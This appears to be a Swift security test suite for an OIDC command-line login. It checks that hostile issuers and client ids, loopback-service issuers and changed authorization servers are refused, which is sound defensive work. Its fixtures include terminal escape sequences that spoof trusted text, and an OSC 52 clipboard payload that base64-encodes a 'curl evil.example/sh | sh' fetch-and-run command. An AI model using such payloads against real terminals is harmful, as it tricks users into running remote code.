import Foundation
import OIDC
import OIDCTesting
import OIDCTestSupport
import Testing

/// `oidc login --resource` against a resource that turns hostile (security review 5): escape
/// sequences in the issuer or the registered client id (L1), a remote resource naming a local
/// service (L3), a remembered resource that names another authorization server later (I5); the
/// built binary against a small hostile server and the test provider.
@Suite("oidc login --resource: hostile issuers and client ids, local services, a changed authorization server", .timeLimit(.scaledMinutes(3)))
struct ResourceTrustCommandTests {
    static let certificates = Task { try await TestCertificates.make() }

    /// No control character of the terminal (C0 but tab and line feed, DEL, C1) in `text`.
    static func expectNoControl(_ text: String, _ comment: String) {
        let bad = text.unicodeScalars.filter { ($0.value < 0x20 && $0 != "\n" && $0 != "\t") || (0x7F...0x9F).contains($0.value) }
        #expect(bad.isEmpty, "\(comment): \(bad.map { String($0.value, radix: 16) })")
    }

    @Test("L1: escape sequences in the resource's issuer, or in the registered client id: the login exits 4 naming U+001B, nothing reaches the terminal or the store, status has nothing to print")
    func escapes() async throws {
        var script = HostileResource.Script()
        script.authorizationServers = ["http://127.0.0.1:9/\u{1B}]0;owned-title\u{07}\u{1B}[2J\u{1B}[1;32mverified by your IT department\u{1B}[0m"]
        try await HostileResource.with(script) { server in
            let sandbox = LoginSandbox()
            let login = try await sandbox.run(["login", "--resource", server.resourceURL, "--profile", "mcp"])
            #expect(login.status == 4, "\(login.stderr)")
            #expect(login.stderr.contains("U+001B") && login.stderr.contains("printable ASCII"), "\(login.stderr)")
            Self.expectNoControl(login.stdout + login.stderr, "the login")
            #expect(server.requests.count == 2, "nothing after the resource's metadata: \(server.requests)")
            let status = try await sandbox.run(["status", "--profile", "mcp"])
            #expect(status.status == 4)
            Self.expectNoControl(status.stdout + status.stderr, "status")
        }
        script = HostileResource.Script()
        script.clientID = "cid\u{1B}]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaAo=\u{07}"
        try await HostileResource.with(script) { server in
            let sandbox = LoginSandbox()
            let login = try await sandbox.run(["login", "--resource", server.resourceURL, "--profile", "mcp"])
            #expect(login.status == 4, "\(login.stderr)")
            #expect(login.stderr.contains("client_id") && login.stderr.contains("U+001B") && login.stderr.contains("VSCHAR"), "\(login.stderr)")
            Self.expectNoControl(login.stdout + login.stderr, "the login")
            #expect(!login.stderr.contains("Y3Vy"))
            #expect(try await ResourceLoginCommandTests.registration(sandbox, server.origin) == nil)
            #expect(server.requests.last == "POST /register", "\(server.requests)")
            let status = try await sandbox.run(["status", "--profile", "mcp"])
            Self.expectNoControl(status.stdout + status.stderr, "status")
        }
    }

    @Test("L3: an https resource naming a plain-http loopback issuer: exit 2 before any request reaches that local service, with why")
    func remoteResourceNamesLocalService() async throws {
        let certificates = try await Self.certificates.value
        try await HostileResource.with(HostileResource.Script()) { local in
            var configuration = ResourceLoginCommandTests.configuration
            configuration.tls = certificates.serverTLS
            configuration.protectedResource.authorizationServers = ["\(local.origin)/admin"]
            try await withTestProvider(configuration) { provider in
                let sandbox = LoginSandbox()
                let login = try await sandbox.run([
                    "login", "--resource", provider.resourceURL, "--profile", "m", "--ca-file", certificates.authority.certificateFile,
                ])
                #expect(login.status == 2, "\(login.stderr)")
                #expect(login.stderr.contains("plain http") && login.stderr.contains("\(local.origin)/admin"), "\(login.stderr)")
                #expect(await provider.registrationCount() == 0)
            }
            #expect(local.requests.isEmpty, "\(local.requests)")
        }
    }

    @Test("I5: a --resource profile remembers its authorization server; when the resource names another, the login exits 4 naming both and how to accept it, and nothing reaches the new one; --resource URL --issuer NEW accepts it")
    func changedAuthorizationServer() async throws {
        try await withTestProvider(ResourceLoginCommandTests.configuration) { other in
            let port = try freePort()
            var first = ResourceLoginCommandTests.configuration
            first.port = port
            let sandbox = LoginSandbox()
            let resource = try await withTestProvider(first) { provider in
                let login = try await sandbox.run(["login", "--resource", provider.resourceURL, "--profile", "p"])
                #expect(login.status == 0, "\(login.stderr)")
                let profile = try String(contentsOfFile: sandbox.profileDirectory + "/p.json", encoding: .utf8)
                #expect(profile.contains(#""resource_issuer" : "\#(provider.issuer)""#), "\(profile)")
                let again = try await sandbox.run(["login", "--profile", "p"])
                #expect(again.status == 0, "the same server: \(again.stderr)")
                return (url: provider.resourceURL, issuer: provider.issuer)
            }
            // The same resource (same port), which now names the other server.
            var switched = first
            switched.protectedResource.authorizationServers = [other.issuer]
            try await withTestProvider(switched) { provider in
                #expect(provider.resourceURL == resource.url)
                let login = try await sandbox.run(["login", "--profile", "p"])
                #expect(login.status == 4, "\(login.stderr)")
                #expect(login.stderr.contains(resource.issuer) && login.stderr.contains(other.issuer), "\(login.stderr)")
                #expect(
                    login.stderr.contains("oidc login --profile p --resource \(resource.url) --issuer \(other.issuer)"), "\(login.stderr)")
                #expect(await other.requestCount(.authorize) == 0)
                #expect(await other.registrationCount() == 0)
                #expect(try sandbox.storedLogin("p")?.issuer == resource.issuer)

                let accepted = try await sandbox.run(["login", "--profile", "p", "--resource", resource.url, "--issuer", other.issuer])
                #expect(accepted.status == 0, "\(accepted.stderr)")
                #expect(try sandbox.storedLogin("p")?.issuer == other.issuer)
                let profile = try String(contentsOfFile: sandbox.profileDirectory + "/p.json", encoding: .utf8)
                #expect(profile.contains(#""resource_issuer" : "\#(other.issuer)""#), "\(profile)")
                let later = try await sandbox.run(["login", "--profile", "p"])
                #expect(later.status == 0, "\(later.stderr)")
                #expect(await other.registrationCount() == 1)
            }
        }
    }
}
